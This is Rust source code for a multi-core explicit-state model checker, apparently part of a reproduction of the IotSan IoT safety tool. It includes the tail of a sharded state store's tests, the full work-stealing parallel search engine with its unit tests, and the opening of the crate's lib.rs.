    #[test]
    fn sharded_store_rounds_shard_count_and_deduplicates() {
        let store = ShardedStore::new(StoreKind::Exact, 3);
        assert_eq!(store.shard_count(), 4);
        assert!(store.is_empty());
        for s in states(500) {
            assert!(store.insert(&s));
            assert!(store.contains(&s));
        }
        for s in states(500) {
            assert!(!store.insert(&s));
        }
        assert_eq!(store.len(), 500);
        assert!(store.memory_bytes() > 0);
    }

    #[test]
    fn sharded_store_distributes_states_over_shards() {
        let store = ShardedStore::new(StoreKind::Exact, 8);
        for s in states(4_000) {
            store.insert(&s);
        }
        // Every shard should hold a meaningful fraction of the states (a
        // uniform split would be 500 each).
        for shard in &store.shards {
            let len = shard.lock().unwrap().len();
            assert!(len > 250, "shard holds only {len} of 4000 states");
        }
    }

    #[test]
    fn sharded_bitstate_keeps_total_memory_budget() {
        let unsharded =
            ShardedStore::new(StoreKind::Bitstate { log2_bits: 20, hash_functions: 3 }, 1);
        let sharded =
            ShardedStore::new(StoreKind::Bitstate { log2_bits: 20, hash_functions: 3 }, 8);
        assert_eq!(unsharded.memory_bytes(), sharded.memory_bytes());
    }

    #[test]
    fn sharded_store_admits_concurrent_duplicates_exactly_once() {
        // 8 threads race to insert the same 512 states; each distinct state
        // must be admitted (insert -> true) exactly once across all threads,
        // and every state must be present afterwards.
        for kind in [StoreKind::Exact, StoreKind::HashCompact] {
            let store = ShardedStore::new(kind, 8);
            let all = states(512);
            let admitted = std::sync::atomic::AtomicUsize::new(0);
            std::thread::scope(|scope| {
                for _ in 0..8 {
                    scope.spawn(|| {
                        let mut fresh = 0usize;
                        for s in &all {
                            if store.insert(s) {
                                fresh += 1;
                            }
                        }
                        admitted.fetch_add(fresh, std::sync::atomic::Ordering::Relaxed);
                    });
                }
            });
            assert_eq!(admitted.load(std::sync::atomic::Ordering::Relaxed), 512, "{kind:?}");
            assert_eq!(store.len(), 512, "{kind:?}");
            for s in &all {
                assert!(store.contains(s), "{kind:?} lost a state");
            }
        }
    }
}
