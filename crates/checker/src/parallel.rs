//! Multi-core explicit-state search.
//!
//! [`ParallelChecker`] is the parallel counterpart of [`Checker`]: a pool of
//! `std::thread` workers explores the same bounded state space over a shared,
//! chunked work queue and a [`ShardedStore`] of visited states (in the spirit
//! of Spin's multi-core and swarm verification).  No external runtime is
//! involved — the engine is plain `std` threads, mutexes and atomics.
//!
//! # How work is shared
//!
//! Each worker expands frames from a private stack (depth-first, like the
//! sequential engine) and periodically moves the *shallowest* half of its
//! stack to the global queue whenever the queue is running dry, so idle
//! workers always find wide, coarse-grained frames to steal.  Termination
//! uses an idle-counter protocol: a worker that finds both its stack and the
//! global queue empty parks on a condvar; when every worker is parked the
//! frontier is exhausted and the search is over.
//!
//! # Counterexample bookkeeping
//!
//! Like the sequential engine, workers never clone traces on the hot path:
//! each worker owns a parent-pointer `TraceArena` (`crate::search`)
//! recording one `(parent, action)` node per state *it*
//! admitted.  Frames donated to the shared queue carry their root-to-frame
//! action path as an owned prefix, which the stealing worker registers in its
//! own arena — so arenas are strictly worker-private (no cross-thread
//! dereference of a growing arena) while every frame, wherever it travels,
//! can still reconstruct its full path.  Violations record `(depth, action
//! path)` candidates; the deterministic merge ranks them exactly as before
//! and only the per-property winners are materialized into full [`crate::Trace`]s
//! by replay.
//!
//! # Determinism
//!
//! With exact (or hash-compact) storage, depth is part of state identity and
//! every `(state, depth)` pair is admitted by the store exactly once no
//! matter which worker gets there first, so for an *exhaustive* search (no
//! `stop_at_first`, no cap or time budget firing) the *set of expanded
//! frames* — and therefore the set of violated properties, the number of
//! stored states and the number of applied transitions — is identical to the
//! sequential checker's for the same bounded model.  An early-stopped search
//! is inherently order-dependent in either engine: under `stop_at_first` the
//! parallel merge reports the co-violated properties of one best-ranked
//! triggering step, which may be a different step than sequential DFS order
//! happens to reach first.  Worker results are merged by
//! keeping, per property, the lexicographically least `(depth, rendered
//! action sequence)` candidate, so the *depth* of every reported
//! counterexample is also schedule-independent.  The trace itself is
//! best-effort: when two equal-depth paths race to admit the same state, the
//! winner's path seeds that state's whole subtree, so the specific event
//! sequence reported for a property may differ between runs (its length
//! never does).  (Bitstate storage stays approximate: admission of colliding
//! states depends on insertion order, exactly as Spin's multi-core BITSTATE
//! mode trades determinism for memory.)

use crate::search::{
    depth_tag, flush_search_telemetry, materialize_trace, states_per_sec, Checker, FoundViolation,
    SearchConfig, SearchReport, SearchStats, TraceArena,
};
use crate::store::ShardedStore;
use crate::transition::{StepLog, TransitionSystem, Violation};
use iotsan_telemetry::flight::{self, EventCode, Level};
use std::collections::{BTreeMap, VecDeque};
use std::sync::atomic::{AtomicBool, AtomicUsize, Ordering};
use std::sync::{Condvar, Mutex};
use std::time::Instant;

/// How many frames a worker pulls from the global queue in one pop.
const CHUNK: usize = 16;

/// Where a frame's action path is rooted: a node of the local arena, or (for
/// frames that travelled through the shared queue) an owned path.
enum Lineage<A> {
    /// Node id in the expanding worker's arena.
    Local(u32),
    /// The full root-to-frame action path, carried along with a stolen frame.
    Owned(Vec<A>),
}

/// A frontier entry: a state to expand, its event depth and its lineage.
struct Frame<S, A> {
    state: S,
    depth: usize,
    lineage: Lineage<A>,
}

/// A violation candidate: enough to rank deterministically and to
/// materialize the winner's trace later.
struct Candidate<A> {
    violation: Violation,
    depth: usize,
    /// Root-to-violation action sequence (the triggering action included).
    actions: Vec<A>,
    /// Rendered action strings (the merge's tie-break key; computed once per
    /// candidate, not per comparison).
    events: Vec<String>,
}

impl<A> Candidate<A> {
    fn rank(&self) -> (usize, &[String]) {
        (self.depth, &self.events)
    }
}

/// The shared frontier plus the termination-detection bookkeeping it guards.
struct Frontier<S, A> {
    items: VecDeque<Frame<S, A>>,
    /// Workers currently parked waiting for work.
    idle: usize,
    /// Set once: either every worker went idle or a stop condition fired.
    done: bool,
}

/// Everything the workers share.
struct Shared<'m, T: TransitionSystem> {
    model: &'m T,
    config: &'m SearchConfig,
    workers: usize,
    store: ShardedStore,
    frontier: Mutex<Frontier<T::State, T::Action>>,
    /// Approximate mirror of `frontier.items.len()`, readable without the
    /// lock so workers can decide cheaply whether the queue is hungry.
    frontier_len: AtomicUsize,
    available: Condvar,
    transitions: AtomicUsize,
    stored: AtomicUsize,
    /// Store insertions rejected as already-visited (telemetry tally).
    dedup_hits: AtomicUsize,
    /// Peak length of the shared work queue (telemetry tally; worker-local
    /// stacks are not counted).
    frontier_peak: AtomicUsize,
    max_depth_reached: AtomicUsize,
    /// Total arena bookkeeping bytes, accumulated as workers retire.
    arena_bytes: AtomicUsize,
    /// Hard-stop flag (budget exhausted or stop-at-first fired).
    stop: AtomicBool,
    transitions_capped: AtomicBool,
    states_capped: AtomicBool,
    deadline: Option<Instant>,
}

impl<T: TransitionSystem> Shared<'_, T> {
    /// Raises the stop flag and wakes every parked worker.
    fn request_stop(&self) {
        self.stop.store(true, Ordering::Relaxed);
        let mut frontier = self.lock_frontier();
        frontier.done = true;
        self.available.notify_all();
    }

    fn lock_frontier(&self) -> std::sync::MutexGuard<'_, Frontier<T::State, T::Action>> {
        match self.frontier.lock() {
            Ok(guard) => guard,
            Err(poisoned) => poisoned.into_inner(),
        }
    }

    /// Checks the wall-clock budget and the cancellation token; called once
    /// per expansion, like the sequential engine's per-expansion cap check.
    fn check_deadline(&self) {
        if let Some(deadline) = self.deadline {
            if Instant::now() > deadline {
                self.request_stop();
            }
        }
        if let Some(token) = &self.config.cancel {
            if token.is_cancelled() {
                self.request_stop();
            }
        }
    }
}

/// The multi-core explicit-state model checker.
///
/// Constructed from the same [`SearchConfig`] as [`Checker`];
/// [`SearchConfig::workers`] sets the pool size (a value of `0` or `1` simply
/// delegates to the sequential engine) and [`SearchConfig::shards`] sizes the
/// [`ShardedStore`] (0 = proportional to the worker count).
///
/// [`SearchConfig::mode`] is ignored when more than one worker runs: the
/// exploration order is work-stealing depth-first, neither DFS nor BFS, so
/// BFS's shortest-counterexample guarantee does not carry over (the merge
/// still reports the minimum-depth candidate *encountered*, which repeated
/// parallel runs agree on).  Use the sequential engine when strict BFS order
/// matters.
#[derive(Debug, Clone, Default)]
pub struct ParallelChecker {
    config: SearchConfig,
}

impl ParallelChecker {
    /// Creates a parallel checker with the given configuration.
    pub fn new(config: SearchConfig) -> Self {
        ParallelChecker { config }
    }

    /// The configuration in use.
    pub fn config(&self) -> &SearchConfig {
        &self.config
    }

    /// The number of store shards the engine will use.
    fn shard_count(&self) -> usize {
        if self.config.shards > 0 {
            self.config.shards
        } else {
            // Enough shards that workers rarely collide on a lock, with a
            // floor so small pools still spread hot states.
            (self.config.effective_workers() * 8).max(16)
        }
    }

    /// Runs the search over `model` and reports violations and statistics.
    ///
    /// The model must be shareable across worker threads (`Sync`, with
    /// sendable states and actions); every model in `iotsan-core` satisfies
    /// this.
    pub fn verify<T>(&self, model: &T) -> SearchReport
    where
        T: TransitionSystem + Sync,
        T::State: Send,
        T::Action: Send,
    {
        let workers = self.config.effective_workers();
        if workers == 1 {
            return Checker::new(self.config.clone()).verify(model);
        }

        let start = Instant::now();
        flight::record(
            Level::Debug,
            EventCode::SearchStart,
            &format!("parallel depth={} workers={}", self.config.max_depth, workers),
        );
        let store = ShardedStore::new(self.config.store, self.shard_count());
        let initial = model.initial_state();
        let mut encode_buf = Vec::new();
        model.encode(&initial, &mut encode_buf);
        store.insert(&encode_buf);

        let mut items = VecDeque::new();
        items.push_back(Frame { state: initial, depth: 0, lineage: Lineage::Owned(Vec::new()) });
        let shared = Shared {
            model,
            config: &self.config,
            workers,
            store,
            frontier: Mutex::new(Frontier { items, idle: 0, done: false }),
            frontier_len: AtomicUsize::new(1),
            available: Condvar::new(),
            transitions: AtomicUsize::new(0),
            stored: AtomicUsize::new(1),
            dedup_hits: AtomicUsize::new(0),
            frontier_peak: AtomicUsize::new(1),
            max_depth_reached: AtomicUsize::new(0),
            arena_bytes: AtomicUsize::new(0),
            stop: AtomicBool::new(false),
            transitions_capped: AtomicBool::new(false),
            states_capped: AtomicBool::new(false),
            // checked_add: a caller spelling "unlimited" as Duration::MAX
            // must behave like no deadline, as it does sequentially.
            deadline: self.config.time_limit.and_then(|limit| start.checked_add(limit)),
        };

        let per_worker: Vec<BTreeMap<u32, Candidate<T::Action>>> = std::thread::scope(|scope| {
            let handles: Vec<_> = (0..workers).map(|_| scope.spawn(|| worker(&shared))).collect();
            handles.into_iter().map(|h| h.join().expect("search worker panicked")).collect()
        });

        let violations = merge_violations(model, per_worker, self.config.stop_at_first);
        let stopped_early = shared.stop.load(Ordering::Relaxed);
        let states_capped = shared.states_capped.load(Ordering::Relaxed);
        let transitions_capped = shared.transitions_capped.load(Ordering::Relaxed);
        // Stop-at-first ending on a found violation is a normal exit, not a
        // truncation — unless a resource cap also fired (a cap racing with
        // the violation still means the space was not exhausted), keeping the
        // invariant that any `*_capped` flag implies `truncated`.
        let stop_at_first_exit = self.config.stop_at_first && !violations.is_empty();
        let states_stored = shared.store.len();
        let elapsed = start.elapsed();
        let stats = SearchStats {
            states_stored,
            transitions: shared.transitions.load(Ordering::Relaxed),
            max_depth_reached: shared.max_depth_reached.load(Ordering::Relaxed),
            elapsed,
            states_per_sec: states_per_sec(states_stored, elapsed),
            store_memory_bytes: shared.store.memory_bytes(),
            peak_trace_bytes: shared.arena_bytes.load(Ordering::Relaxed)
                + violations.iter().map(|v| v.trace.memory_bytes()).sum::<usize>(),
            truncated: (stopped_early && !stop_at_first_exit)
                || states_capped
                || transitions_capped,
            states_capped,
            transitions_capped,
            workers,
        };
        flush_search_telemetry(
            &stats,
            shared.dedup_hits.load(Ordering::Relaxed),
            shared.frontier_peak.load(Ordering::Relaxed),
            self.config.cancel.as_ref().is_some_and(|t| t.is_cancelled()),
        );
        SearchReport { violations, stats }
    }
}

/// Reduces the per-worker candidate maps to one counterexample per property,
/// deterministically: per property the lexicographically least
/// `(depth, rendered actions)` candidate wins, and the result is ordered by
/// property id.  Only the winners are materialized into full traces (by
/// replaying their action sequences).  Under `stop_at_first` only the
/// best-ranked triggering transition's violations survive — like the
/// sequential engine, which records *every* property the first violating
/// step breaks before stopping (a single step can violate several properties
/// at once).
fn merge_violations<T: TransitionSystem>(
    model: &T,
    per_worker: Vec<BTreeMap<u32, Candidate<T::Action>>>,
    stop_at_first: bool,
) -> Vec<FoundViolation> {
    let mut best: BTreeMap<u32, Candidate<T::Action>> = BTreeMap::new();
    for map in per_worker {
        for candidate in map.into_values() {
            record_candidate(&mut best, candidate);
        }
    }
    let mut merged: Vec<Candidate<T::Action>> = best.into_values().collect();
    if stop_at_first && merged.len() > 1 {
        // Keep the co-violated properties of a single triggering step:
        // violations from the same step share the full action path, so path
        // identity — not just rank — keys the retain.
        let best_index = (0..merged.len())
            .min_by_key(|&i| (merged[i].depth, merged[i].events.clone()))
            .expect("merged is non-empty");
        let best_depth = merged[best_index].depth;
        let best_events = merged[best_index].events.clone();
        merged.retain(|c| c.depth == best_depth && c.events == best_events);
    }
    merged
        .into_iter()
        .map(|c| FoundViolation {
            trace: materialize_trace(model, &c.actions),
            violation: c.violation,
            depth: c.depth,
        })
        .collect()
}

/// Records a violation candidate, keeping the least-ranked one per property.
fn record_candidate<A>(best: &mut BTreeMap<u32, Candidate<A>>, candidate: Candidate<A>) {
    match best.get_mut(&candidate.violation.property) {
        Some(current) => {
            if candidate.rank() < current.rank() {
                *current = candidate;
            }
        }
        None => {
            best.insert(candidate.violation.property, candidate);
        }
    }
}

/// Unwind guard: a worker that panics (in `model.actions`/`apply`/`encode`)
/// dies without ever joining the idle-counter protocol, which would leave
/// the surviving workers parked forever (`idle` can no longer reach
/// `workers`).  Raising the stop flag on unwind wakes everyone, the pool
/// drains, and `thread::scope`'s join propagates the panic instead of
/// hanging.
struct StopOnPanic<'a, 'm, T: TransitionSystem> {
    shared: &'a Shared<'m, T>,
}

impl<T: TransitionSystem> Drop for StopOnPanic<'_, '_, T> {
    fn drop(&mut self) {
        if std::thread::panicking() {
            self.shared.request_stop();
        }
    }
}

/// Per-worker reusable hot-loop buffers.
struct WorkerScratch<T: TransitionSystem> {
    arena: TraceArena<T::Action>,
    actions: Vec<T::Action>,
    encode: Vec<u8>,
    path: Vec<T::Action>,
    model_scratch: T::Scratch,
    log: StepLog<T::Event>,
}

/// One worker of the pool: expand local frames depth-first, share surplus
/// when the global queue runs dry, park when there is nothing left anywhere.
fn worker<T>(shared: &Shared<'_, T>) -> BTreeMap<u32, Candidate<T::Action>>
where
    T: TransitionSystem + Sync,
    T::State: Send,
    T::Action: Send,
{
    let _guard = StopOnPanic { shared };
    let mut local: Vec<Frame<T::State, T::Action>> = Vec::new();
    let mut best: BTreeMap<u32, Candidate<T::Action>> = BTreeMap::new();
    let mut scratch = WorkerScratch::<T> {
        arena: TraceArena::new(),
        actions: Vec::new(),
        encode: Vec::new(),
        path: Vec::new(),
        model_scratch: T::Scratch::default(),
        log: StepLog::disabled(),
    };

    while let Some(frame) = next_frame(shared, &mut local) {
        expand(shared, frame, &mut local, &mut best, &mut scratch);
        share_surplus(shared, &mut local, &scratch.arena);
    }
    shared.arena_bytes.fetch_add(scratch.arena.memory_bytes(), Ordering::Relaxed);
    best
}

/// Pops the next frame, pulling a chunk from the global queue when the local
/// stack is empty and running the idle/termination protocol when the global
/// queue is empty too.
fn next_frame<T>(
    shared: &Shared<'_, T>,
    local: &mut Vec<Frame<T::State, T::Action>>,
) -> Option<Frame<T::State, T::Action>>
where
    T: TransitionSystem,
{
    if shared.stop.load(Ordering::Relaxed) {
        local.clear();
    } else if let Some(frame) = local.pop() {
        return Some(frame);
    }

    let mut frontier = shared.lock_frontier();
    loop {
        if shared.stop.load(Ordering::Relaxed) || frontier.done {
            frontier.done = true;
            shared.available.notify_all();
            return None;
        }
        if !frontier.items.is_empty() {
            // Take a fair share of the queue, at most a chunk: under-taking
            // costs a re-lock, over-taking starves the other workers.
            let fair = frontier.items.len().div_ceil(shared.workers);
            let take = fair.clamp(1, CHUNK);
            local.extend(frontier.items.drain(..take));
            shared.frontier_len.store(frontier.items.len(), Ordering::Relaxed);
            return local.pop();
        }
        frontier.idle += 1;
        if frontier.idle == shared.workers {
            // Everyone is idle and the queue is empty: the bounded state
            // space is exhausted.
            frontier.done = true;
            shared.available.notify_all();
            return None;
        }
        frontier = match shared.available.wait(frontier) {
            Ok(guard) => guard,
            Err(poisoned) => poisoned.into_inner(),
        };
        frontier.idle -= 1;
    }
}

/// Moves the shallowest half of an oversized local stack to the global queue
/// when the queue is hungry, waking parked workers.  Donated frames have
/// their lineage resolved into owned action paths (walking the donor's
/// arena), so the stealing worker never touches this worker's arena.
fn share_surplus<T>(
    shared: &Shared<'_, T>,
    local: &mut Vec<Frame<T::State, T::Action>>,
    arena: &TraceArena<T::Action>,
) where
    T: TransitionSystem,
{
    if local.len() < 2 {
        return;
    }
    if shared.frontier_len.load(Ordering::Relaxed) >= shared.workers {
        return;
    }
    let keep = local.len() - local.len() / 2;
    let donate = local.len() - keep;
    // Donate the *bottom* of the stack: those frames are the shallowest, so a
    // stealing worker receives a large subtree instead of a near-leaf.  Path
    // resolution (the arena walks and their allocations) happens *before*
    // taking the shared lock, so donation bursts never serialize the pool.
    for frame in local[..donate].iter_mut() {
        if let Lineage::Local(node) = frame.lineage {
            let mut path = Vec::new();
            arena.path(node, &mut path);
            frame.lineage = Lineage::Owned(path);
        }
    }
    let mut frontier = shared.lock_frontier();
    frontier.items.extend(local.drain(..donate));
    shared.frontier_len.store(frontier.items.len(), Ordering::Relaxed);
    shared.frontier_peak.fetch_max(frontier.items.len(), Ordering::Relaxed);
    shared.available.notify_all();
}

/// Expands one frame exactly like the sequential DFS body: apply every
/// enabled action, record violations, admit unseen `(state, depth)` pairs to
/// the shared store and push them for further expansion.
fn expand<T>(
    shared: &Shared<'_, T>,
    frame: Frame<T::State, T::Action>,
    local: &mut Vec<Frame<T::State, T::Action>>,
    best: &mut BTreeMap<u32, Candidate<T::Action>>,
    scratch: &mut WorkerScratch<T>,
) where
    T: TransitionSystem + Sync,
    T::State: Send,
{
    shared.check_deadline();
    if shared.stop.load(Ordering::Relaxed) || frame.depth >= shared.config.max_depth {
        return;
    }
    // Root this frame in the local arena: a frame that travelled through the
    // shared queue registers its owned path as a prefix exactly once.
    let parent = match frame.lineage {
        Lineage::Local(node) => node,
        Lineage::Owned(path) => scratch.arena.add_prefix(path),
    };
    shared.model.actions(&frame.state, &mut scratch.actions);
    for index in 0..scratch.actions.len() {
        if shared.stop.load(Ordering::Relaxed) {
            return;
        }
        let action = &scratch.actions[index];
        let transitions = shared.transitions.fetch_add(1, Ordering::Relaxed).saturating_add(1);
        if transitions >= shared.config.max_transitions {
            shared.transitions_capped.store(true, Ordering::Relaxed);
            shared.request_stop();
        }
        let outcome =
            shared.model.apply(&frame.state, action, &mut scratch.model_scratch, &mut scratch.log);
        let next_depth = frame.depth + 1;
        shared.max_depth_reached.fetch_max(next_depth, Ordering::Relaxed);

        if !outcome.violations.is_empty() {
            record_step_violations(
                shared.model,
                &outcome.violations,
                &scratch.arena,
                parent,
                action,
                next_depth,
                best,
                &mut scratch.path,
            );
            if shared.config.stop_at_first {
                shared.request_stop();
                return;
            }
        }

        scratch.encode.clear();
        shared.model.encode(&outcome.state, &mut scratch.encode);
        // Depth is part of state identity, exactly as in the sequential
        // engine (see `Checker::run`).
        scratch.encode.push(depth_tag(next_depth));
        if shared.store.insert(&scratch.encode) {
            let stored = shared.stored.fetch_add(1, Ordering::Relaxed).saturating_add(1);
            if stored >= shared.config.max_states {
                shared.states_capped.store(true, Ordering::Relaxed);
                shared.request_stop();
            }
            let node = scratch.arena.push(parent, action);
            local.push(Frame {
                state: outcome.state,
                depth: next_depth,
                lineage: Lineage::Local(node),
            });
        } else {
            shared.dedup_hits.fetch_add(1, Ordering::Relaxed);
        }
    }
}

/// Records candidates for every violation of one step, skipping the path
/// walk and action rendering whenever the candidate cannot beat the current
/// best for its property.
#[allow(clippy::too_many_arguments)]
fn record_step_violations<T: TransitionSystem>(
    model: &T,
    violations: &[Violation],
    arena: &TraceArena<T::Action>,
    parent: u32,
    action: &T::Action,
    depth: usize,
    best: &mut BTreeMap<u32, Candidate<T::Action>>,
    path_buf: &mut Vec<T::Action>,
) {
    // One path walk / render pass per step, shared by its co-violations, and
    // only when at least one of them can improve on the current best.
    let mut rendered: Option<(Vec<T::Action>, Vec<String>)> = None;
    for violation in violations {
        if let Some(current) = best.get(&violation.property) {
            if depth > current.depth {
                continue;
            }
        }
        let (actions, events) = rendered.get_or_insert_with(|| {
            arena.path(parent, path_buf);
            path_buf.push(action.clone());
            let events = path_buf.iter().map(|a| model.display_action(a)).collect();
            (path_buf.clone(), events)
        });
        record_candidate(
            best,
            Candidate {
                violation: violation.clone(),
                depth,
                actions: actions.clone(),
                events: events.clone(),
            },
        );
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::search::SearchMode;
    use crate::store::StoreKind;
    use crate::trace::LogLine;
    use crate::transition::testing::CounterModel;
    use crate::transition::StepOutcome;
    use std::time::Duration;

    fn model() -> CounterModel {
        CounterModel { bad_value: 6, max_value: 32 }
    }

    fn sequential(config: &SearchConfig) -> SearchReport {
        let mut sequential = config.clone();
        sequential.workers = 1;
        Checker::new(sequential).verify(&model())
    }

    #[test]
    fn parallel_matches_sequential_violations_and_state_counts() {
        for workers in [2usize, 3, 4, 8] {
            let config = SearchConfig::with_depth(6).parallel(workers);
            let par = ParallelChecker::new(config.clone()).verify(&model());
            let seq = sequential(&config);
            assert_eq!(par.violated_properties(), seq.violated_properties(), "{workers} workers");
            // With exact storage the explored (state, depth) set is
            // schedule-independent, so the counters agree exactly.
            assert_eq!(par.stats.states_stored, seq.stats.states_stored, "{workers} workers");
            assert_eq!(par.stats.transitions, seq.stats.transitions, "{workers} workers");
            assert_eq!(par.stats.max_depth_reached, seq.stats.max_depth_reached);
            assert_eq!(par.stats.workers, workers);
            assert!(!par.stats.truncated);
        }
    }

    #[test]
    fn counterexample_depths_are_deterministic_across_runs() {
        // The violated-property set and each counterexample's depth are
        // schedule-independent; the specific trace is best-effort (see the
        // module docs) and deliberately not compared here.
        let config = SearchConfig::with_depth(6).parallel(4);
        let signature = |report: &SearchReport| {
            report.violations.iter().map(|v| (v.violation.property, v.depth)).collect::<Vec<_>>()
        };
        let first = ParallelChecker::new(config.clone()).verify(&model());
        for _ in 0..5 {
            let again = ParallelChecker::new(config.clone()).verify(&model());
            assert_eq!(signature(&first), signature(&again));
        }
    }

    #[test]
    fn parallel_counterexamples_are_materialized() {
        let config = SearchConfig::with_depth(6).parallel(4);
        let report = ParallelChecker::new(config).verify(&model());
        let found = report.violation_for(1).expect("violation found");
        assert_eq!(found.trace.len(), found.depth);
        assert_eq!(found.trace.steps.last().unwrap().log[0].text, "counter = 6");
        assert!(report.stats.peak_trace_bytes > 0);
        assert!(report.stats.states_per_sec > 0.0);
    }

    #[test]
    fn one_worker_delegates_to_the_sequential_engine() {
        let config = SearchConfig::with_depth(5);
        let par = ParallelChecker::new(config.clone()).verify(&model());
        let seq = Checker::new(config).verify(&model());
        assert_eq!(par.violated_properties(), seq.violated_properties());
        assert_eq!(par.stats.workers, 1);
    }

    #[test]
    fn cancelled_token_truncates_parallel_search() {
        use crate::search::CancelToken;
        let token = CancelToken::new();
        token.cancel();
        let config = SearchConfig::with_depth(12).parallel(4).cancellable(token);
        let report = ParallelChecker::new(config).verify(&model());
        // Cancelled before any worker expanded: the pool drains immediately
        // and the report is flagged truncated without any count cap.
        assert!(report.stats.truncated);
        assert!(!report.stats.states_capped);
        assert!(!report.stats.transitions_capped);
    }

    #[test]
    fn stop_at_first_reports_exactly_one_violation() {
        // CounterModel steps violate at most one property, so stop-at-first
        // yields a single counterexample, like the sequential engine.
        let mut config = SearchConfig::with_depth(8).parallel(4);
        config.stop_at_first = true;
        let report = ParallelChecker::new(config).verify(&model());
        assert_eq!(report.violations.len(), 1);
        assert!(!report.stats.truncated);
    }

    #[test]
    fn stop_at_first_keeps_all_properties_of_the_triggering_step() {
        use crate::transition::testing::CounterAction;

        /// Like `CounterModel`, but reaching the bad value violates two
        /// properties in the same step.
        struct DoubleViolationModel;
        impl TransitionSystem for DoubleViolationModel {
            type State = u32;
            type Action = CounterAction;
            type Event = ();
            type Scratch = ();

            fn initial_state(&self) -> u32 {
                1
            }

            fn actions(&self, state: &u32, out: &mut Vec<CounterAction>) {
                out.clear();
                if *state < 32 {
                    out.push(CounterAction::Increment);
                    out.push(CounterAction::Double);
                }
            }

            fn apply(
                &self,
                state: &u32,
                action: &CounterAction,
                _scratch: &mut (),
                _log: &mut StepLog<()>,
            ) -> StepOutcome<u32> {
                let next = match action {
                    CounterAction::Increment => state + 1,
                    CounterAction::Double => state * 2,
                }
                .min(32);
                let violations = if next == 6 {
                    vec![
                        Violation { property: 1, description: "reached 6".into() },
                        Violation { property: 2, description: "also reached 6".into() },
                    ]
                } else {
                    Vec::new()
                };
                StepOutcome { state: next, violations }
            }

            fn encode(&self, state: &u32, out: &mut Vec<u8>) {
                out.extend_from_slice(&state.to_le_bytes());
            }

            fn display_action(&self, action: &CounterAction) -> String {
                action.to_string()
            }

            fn render_event(&self, _event: &()) -> LogLine {
                LogLine::new("")
            }
        }

        // The sequential engine records every property the triggering step
        // breaks before stopping; the parallel merge must preserve that.
        let mut config = SearchConfig::with_depth(8);
        config.stop_at_first = true;
        let seq = Checker::new(config.clone()).verify(&DoubleViolationModel);
        let par = ParallelChecker::new(config.parallel(4)).verify(&DoubleViolationModel);
        assert_eq!(seq.violated_properties().len(), 2);
        assert_eq!(par.violated_properties(), seq.violated_properties());
    }

    #[test]
    fn transition_cap_stops_all_workers() {
        let mut config = SearchConfig::with_depth(10).parallel(4);
        config.max_transitions = 5;
        let report = ParallelChecker::new(config).verify(&model());
        assert!(report.stats.truncated);
        assert!(report.stats.transitions_capped);
        // The cap may overshoot by a couple of in-flight transitions per
        // worker before the stop flag becomes visible.
        assert!(report.stats.transitions <= 5 + 2 * 4);
    }

    #[test]
    fn state_cap_stops_all_workers() {
        let mut config = SearchConfig::with_depth(10).parallel(4);
        config.max_states = 4;
        let report = ParallelChecker::new(config).verify(&model());
        assert!(report.stats.truncated);
        assert!(report.stats.states_capped);
    }

    #[test]
    fn zero_time_budget_truncates_without_panicking() {
        let mut config = SearchConfig::with_depth(12).parallel(4);
        config.time_limit = Some(Duration::ZERO);
        let report = ParallelChecker::new(config).verify(&model());
        assert!(report.stats.truncated);
    }

    #[test]
    fn maximal_time_budget_behaves_like_no_deadline() {
        // `Some(Duration::MAX)` as "effectively unlimited" must not overflow
        // the deadline computation (Instant + Duration panics unchecked).
        let mut config = SearchConfig::with_depth(6).parallel(4);
        config.time_limit = Some(Duration::MAX);
        let report = ParallelChecker::new(config).verify(&model());
        assert!(report.has_violations());
        assert!(!report.stats.truncated);
    }

    #[test]
    fn hash_compact_store_agrees_with_exact() {
        let mut config = SearchConfig::with_depth(6).parallel(4);
        config.store = StoreKind::HashCompact;
        let compact = ParallelChecker::new(config.clone()).verify(&model());
        config.store = StoreKind::Exact;
        let exact = ParallelChecker::new(config).verify(&model());
        assert_eq!(compact.violated_properties(), exact.violated_properties());
        assert_eq!(compact.stats.states_stored, exact.stats.states_stored);
    }

    #[test]
    fn bitstate_store_still_finds_the_violation() {
        let config = SearchConfig::with_depth(6).parallel(4).bitstate();
        let report = ParallelChecker::new(config).verify(&model());
        assert!(report.has_violations());
    }

    #[test]
    fn explicit_shard_count_is_honored() {
        let mut config = SearchConfig::with_depth(4).parallel(2);
        config.shards = 4;
        let checker = ParallelChecker::new(config);
        assert_eq!(checker.shard_count(), 4);
        // The counter reaches the bad value 6 within 4 steps (1→2→3→6).
        assert!(checker.verify(&model()).has_violations());
    }

    #[test]
    fn worker_panic_propagates_instead_of_hanging() {
        use crate::transition::testing::CounterAction;

        /// A model whose `apply` panics on one reachable state.
        struct ExplodingModel;
        impl TransitionSystem for ExplodingModel {
            type State = u32;
            type Action = CounterAction;
            type Event = ();
            type Scratch = ();

            fn initial_state(&self) -> u32 {
                1
            }

            fn actions(&self, state: &u32, out: &mut Vec<CounterAction>) {
                out.clear();
                if *state < 32 {
                    out.push(CounterAction::Increment);
                    out.push(CounterAction::Double);
                }
            }

            fn apply(
                &self,
                state: &u32,
                action: &CounterAction,
                _scratch: &mut (),
                _log: &mut StepLog<()>,
            ) -> StepOutcome<u32> {
                assert!(*state != 5, "model exploded at 5");
                let next = match action {
                    CounterAction::Increment => state + 1,
                    CounterAction::Double => state * 2,
                }
                .min(32);
                StepOutcome { state: next, violations: Vec::new() }
            }

            fn encode(&self, state: &u32, out: &mut Vec<u8>) {
                out.extend_from_slice(&state.to_le_bytes());
            }

            fn display_action(&self, action: &CounterAction) -> String {
                action.to_string()
            }

            fn render_event(&self, _event: &()) -> LogLine {
                LogLine::new("")
            }
        }

        // Without the StopOnPanic guard this would deadlock (the surviving
        // workers park forever); with it, the panic propagates promptly.
        let result = std::panic::catch_unwind(std::panic::AssertUnwindSafe(|| {
            ParallelChecker::new(SearchConfig::with_depth(8).parallel(4)).verify(&ExplodingModel)
        }));
        assert!(result.is_err());
    }

    #[test]
    fn bfs_mode_config_is_accepted() {
        // The parallel engine's order is neither DFS nor BFS; a BFS-mode
        // config must still explore the full bounded space.
        let mut config = SearchConfig::with_depth(6).parallel(3);
        config.mode = SearchMode::Bfs;
        let par = ParallelChecker::new(config.clone()).verify(&model());
        let seq = sequential(&config);
        assert_eq!(par.violated_properties(), seq.violated_properties());
    }
}
