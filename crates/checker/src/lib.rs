//! # iotsan-checker
//!
//! A from-scratch explicit-state model checker, the Spin substitute used by
//! IotSan-rs (the Rust reproduction of *IotSan: Fortifying the Safety of IoT
